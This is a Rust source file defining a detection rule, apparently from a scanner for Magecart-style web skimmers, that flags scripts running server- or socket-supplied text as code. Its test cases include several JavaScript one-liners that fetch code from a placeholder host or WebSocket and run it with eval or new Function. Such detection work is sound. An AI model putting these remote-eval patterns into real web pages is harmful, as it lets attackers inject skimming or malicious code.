//! `remote-code-run`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "remote-code-run",
    description: "The script runs text from a server, a socket or another window as code.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::RemoteRun]), one(&[Atom::Eval, Atom::FunctionOfText])],
    within: 20,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://c.example/a').then(r=>r.text()).then(c=>eval(c))",
            "fetch(u).then(r=>r.text()).then(eval)",
            "var s=new WebSocket('wss://c.example/');s.onmessage=function(e){eval(e.data)}",
            "async function go(){const r=await fetch(u);const t=await r.text();new Function(t)()}",
        ],
        without: &[
            "fetch('/a').then(r=>r.json()).then(d=>{list.textContent=d.name})",
            "addEventListener('message',e=>{if(e.data==='done')close()})",
            "fetch('/sw').then(r=>r.text()).then(t=>{if(t!==old)location.reload()})",
        ],
    },
};
